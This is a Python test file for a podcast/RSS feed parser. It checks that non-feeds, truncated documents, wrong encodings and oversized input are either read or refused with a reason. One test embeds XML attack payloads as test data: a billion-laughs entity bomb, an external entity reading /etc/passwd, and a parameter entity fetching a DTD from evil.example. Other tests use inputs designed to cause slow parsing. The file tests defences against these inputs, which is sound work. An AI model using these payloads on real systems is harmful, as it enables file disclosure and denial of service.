"""What servers send instead of a feed ends in a reason; what is only untidy ends in a record."""

from __future__ import annotations

import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.feeds import document, namespace
from ingest.feeds.reasons import FeedUnreadable, Reason
from tests.ingest.feeds.documents import CLOSING, OPENING, channel_of, episode_of, feed, item, parse

ROOT = OPENING.partition("\n")[2]
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def reason_of(body: bytes, content_type: str | None = None) -> Reason:
    with pytest.raises(FeedUnreadable) as caught:
        parse(body, content_type=content_type)
    assert caught.value.detail
    return caught.value.reason


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", Reason.EMPTY),
        (b" \n\0\0 ", Reason.EMPTY),
        (b"<!DOCTYPE html><html><body>404</body></html>", Reason.HTML_PAGE),
        (b"<html><head><title>Just a moment...</title></head><p>see <rss> and </rss>", Reason.HTML_PAGE),
        (b"\n<!-- cached --><HTML lang=en>", Reason.HTML_PAGE),
        (b'{"error": "not found"}', Reason.NOT_A_FEED),
        (b"Not found", Reason.NOT_A_FEED),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), Reason.NOT_A_FEED),
        (b"<?xml version='1.0'?><opml version='2.0'><body/></opml>", Reason.NOT_A_FEED),
        (b"<!-- <rss> --><urlset/>", Reason.NOT_A_FEED),
        (b"<rss version='2.0'></rss>", Reason.NOT_A_FEED),
        (b"<rss version='2.0'><channel></channel></rss>", Reason.NOT_A_FEED),
    ],
)
def test_what_is_no_feed_ends_in_its_reason(body: bytes, reason: Reason) -> None:
    assert reason_of(body) is reason


@pytest.mark.parametrize(
    "declared",
    [
        f'<!ENTITY l0 "ha">{LAUGHS}',
        '<!ENTITY l9 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;',
        '<!entity l9 "<rss>">',
    ],
    ids=["bomb", "file", "parameter", "feigned root"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_with_entities_of_its_own_is_refused(declared: str, encoding: str) -> None:
    text = f'<?xml version="1.0"?><!DOCTYPE rss [{declared}]>{ROOT}<title>&l9;</title>{CLOSING}'
    assert reason_of(text.encode(encoding)) is Reason.ENTITIES


@pytest.mark.parametrize("end", [20, 200, 400, 600, 760, -14])
def test_a_document_that_breaks_off_is_truncated(end: int) -> None:
    body = feed([item("<description><![CDATA[" + "long " * 50 + "]]></description>"), item(number=2)])
    assert reason_of(body[:end]) in (Reason.TRUNCATED, Reason.NOT_A_FEED)
    if end > 300 or end < 0:
        assert reason_of(body[:end]) is Reason.TRUNCATED


def test_an_atom_feed_that_breaks_off_is_truncated() -> None:
    atom = b"<feed xmlns='http://www.w3.org/2005/Atom'><title>T</title><entry><id>1</id></entry>"
    assert reason_of(atom) is Reason.TRUNCATED


def test_the_end_of_the_channel_is_end_enough() -> None:
    assert parse(feed([item()]).replace(b"</rss>", b"")).items


def test_a_harmless_doctype_is_taken_off() -> None:
    doctype = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/rss-0.91.dtd">'
    )
    body = feed([item("<author>Jos&eacute;</author>")])
    parsed = parse(body.replace(b"<rss", doctype + b"<rss"))
    assert parsed.items[0].content["author"] == "José"


def test_what_stands_before_and_behind_the_feed_is_taken_off() -> None:
    body = feed([item()])
    noisy = (
        b"\n\n<br />Warning: mysql_connect() in /var/www/feed.php\n"
        + body
        + b"<script src='x.js'></script>\n"
    )
    assert parse(noisy).items == parse(body).items


def test_a_byte_order_mark_and_null_bytes_do_no_harm() -> None:
    body = feed([item("<author>Zo\u00eb</author>")])
    said = parse(body).items[0].content
    assert parse(b"\xef\xbb\xbf" + body).items[0].content == said
    assert parse(body.replace(b"Zo", b"Z\0o\x0b")).items[0].content == said


@pytest.mark.parametrize(
    ("encoding", "declared", "content_type"),
    [
        ("utf-8", "UTF-8", None),
        ("utf-8", "ISO-8859-1", None),  # wrong: it is UTF-8
        ("utf-8", "utf-16", None),
        ("utf-8", "no-such-encoding", "text/xml; charset=us-ascii"),
        ("latin-1", "ISO-8859-1", None),
        ("latin-1", "UTF-8", "application/rss+xml"),  # wrong: it is Latin-1
        ("cp1252", "windows-1252", None),
        ("latin-1", "", "application/rss+xml; charset=ISO-8859-1"),
        ("utf-16", "UTF-16", None),
        ("utf-16-le", "UTF-16", None),
    ],
)
def test_the_encoding_is_found_where_the_declared_one_is_wrong(
    encoding: str, declared: str, content_type: str | None
) -> None:
    text = feed([item("<author>Jörg Müller, Zürich, Größe, Äpfel für Öl</author>")]).decode()
    text = text.replace(' encoding="UTF-8"', f' encoding="{declared}"' if declared else "")
    parsed = parse(text.encode(encoding), content_type=content_type)
    assert parsed.items[0].content["author"] == "Jörg Müller, Zürich, Größe, Äpfel für Öl"


@pytest.mark.parametrize("declared", ["\0", "\x80", "undefined", "zip", "punycode", "idna"])
def test_a_declaration_that_is_none_does_no_harm(declared: str) -> None:
    text = feed([item("<author>Jörg Müller, Zürich</author>")]).decode().replace("UTF-8", declared)
    assert parse(text.encode("latin-1")).items[0].content["author"] == "Jörg Müller, Zürich"


def test_japanese_in_its_old_encodings_is_read() -> None:
    for encoding in ("shift_jis", "euc-jp", "iso-2022-jp"):
        text = feed([item("<author>港の灯りと海の物語</author>")]).decode().replace("UTF-8", encoding)
        assert parse(text.encode(encoding)).items[0].content["author"] == "港の灯りと海の物語"


def test_a_few_broken_bytes_leave_the_rest_readable() -> None:
    body = feed([item("<author>" + "für Öl " * 30 + "X</author>")])
    broken = body.replace(b"X</author>", b"\xc3</author>")
    assert parse(broken).items[0].content["author"].startswith("für Öl für Öl")


def test_text_encoded_twice_is_read_once() -> None:
    """feedparser's repair of UTF-8 that was taken for Latin-1."""
    assert channel_of("<copyright>\u00c2\u00a9 Zo\u00c3\u00ab</copyright>")["copyright"] == "© Zoë"


def test_entities_of_html_and_stray_ampersands_are_repaired() -> None:
    said = episode_of("<title>AT&T&nbsp;&mdash; Caf&eacute; &#0;&bogus; &amp; R&D</title>")
    assert said["title"] == "AT&T — Café &bogus; & R&D"


def test_prefixes_nobody_declared_mean_what_they_usually_mean() -> None:
    said = item("<itunes:duration>60</itunes:duration><podcast:person>Ben</podcast:person>")
    opening = "<rss version='2.0'><channel>"
    parsed = parse(feed([said], "<itunes:author>Ada</itunes:author>", opening))
    assert parsed.content["author"] == "Ada"
    assert parsed.items[0].content["duration_s"] == 60
    assert parsed.items[0].content["podcast_tags"] == '{"person":[{"text":"Ben"}]}'


def test_ten_thousand_items_are_read_and_too_many_are_not(monkeypatch: pytest.MonkeyPatch) -> None:
    body = feed([item(number=n) for n in range(10_000)])
    before = parse(feed([]))
    hashes = parse(body, known=before).item_hashes
    assert len(set(hashes)) == 10_000
    monkeypatch.setattr(document, "MAX_ITEMS", 9_999)
    assert reason_of(body) is Reason.TOO_MANY_ITEMS
    atom = b"<feed xmlns='http://www.w3.org/2005/Atom'>" + b"<entry><id>1</id></entry>" * 10_000 + b"</feed>"
    assert reason_of(atom) is Reason.TOO_MANY_ITEMS


def test_too_many_tags_of_one_name_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(namespace, "MAX_TAGS", 50)
    assert reason_of(feed([item("<podcast:person>x</podcast:person>" * 51)])) is Reason.TOO_MANY_ITEMS


@pytest.mark.parametrize(
    "inner",
    [
        "<podcast:a>" * 5000 + "</podcast:a>" * 5000,
        "<description>" + "&lt;div&gt;" * 20_000 + "</description>",
        "<description>" + "<div>" * 3000 + "</description>",
        "<description><![CDATA[" + "<" * 50_000 + "]]></description>",
        "<title>" + "&" * 50_000 + "</title>",
        "<pubDate>" + "9" * 100_000 + "</pubDate><itunes:duration>" + "1:" * 50_000 + "</itunes:duration>",
        "<enclosure url='" + "a" * 200_000 + "' length='" + "9" * 5000 + "'/>",
        "<itunes:keywords>" + "," * 200_000 + "</itunes:keywords>",
        # each of these takes hours where a parser goes back to the beginning again and again
        "<description>" + "<!-- " * 150_000 + "<b>",
        "<description>" + "<![CDATA[" * 80_000 + "<b>",
        "<author>" + "a" * 900_000 + "</author>",
        "<b><author><![CDATA[" + "a" * 800_000 + "]]></author>",
        "<x " + " ".join(f"a{n}='1'" for n in range(50_000)) + "/>",
        "<podcast:x " + " ".join(f"a{n}='1'" for n in range(50_000)) + "/>",
    ],
    ids=[
        "tags",
        "escaped",
        "elements",
        "brackets",
        "ampersands",
        "numbers",
        "long",
        "commas",
        "comments",
        "cdata",
        "author",
        "broken author",
        "attributes",
        "podcast attributes",
    ],
)
def test_depth_length_and_repetition_are_bounded(inner: str) -> None:
    try:
        parsed = parse(feed([item(inner), item(number=2)]))
    except FeedUnreadable:
        return
    assert parsed.items[-1].content["guid"] in ("guid-1", "guid-2")  # the second may be hidden in the first


def test_a_long_encoding_declaration_is_no_trap() -> None:
    body = b"<?xml " + b"encoding='" * 20_000 + b"\xe9>" + feed([item()]).partition(b"\n")[2]
    assert reason_of(body) is Reason.NOT_A_FEED  # the root element is too far from the beginning


def test_a_parsed_feed_comes_home_from_another_process() -> None:
    parsed = parse(feed([item("<b>broken"), item(number=2)], "<podcast:funding url='x'>y</podcast:funding>"))
    assert pickle.loads(pickle.dumps(parsed)) == parsed
    assert {type(value) for value in parsed.content.values()} <= {str, bool, int, float, list, type(None)}


def test_a_reason_comes_home_from_another_process() -> None:
    error = pickle.loads(pickle.dumps(FeedUnreadable(Reason.TRUNCATED, "breaks off")))
    assert (error.reason, error.detail) == (Reason.TRUNCATED, "breaks off")


BODY = feed(
    [
        item("<description><![CDATA[<p>Hi</p>]]></description><itunes:duration>60</itunes:duration>"),
        item(number=2),
    ],
    "<itunes:owner><itunes:name>O</itunes:name></itunes:owner>",
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(BODY) - 1), st.binary(max_size=4)), min_size=1, max_size=6))
def test_a_damaged_document_is_read_or_refused(
    damages: list[tuple[int, bytes]],
) -> None:
    body = bytearray(BODY)
    for place, damage in damages:
        body[place : place + 2] = damage
    try:
        parsed = parse(bytes(body), audit=True)
    except FeedUnreadable:
        return
    assert parse(bytes(body), audit=True) == parsed
    assert parsed.audit is not False


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=300)
    | st.text(max_size=300).map(
        lambda text: OPENING.encode() + text.encode(errors="ignore") + CLOSING.encode()
    )
)
def test_any_bytes_are_read_or_refused(body: bytes) -> None:
    try:
        parse(body)
    except FeedUnreadable as error:
        assert error.detail
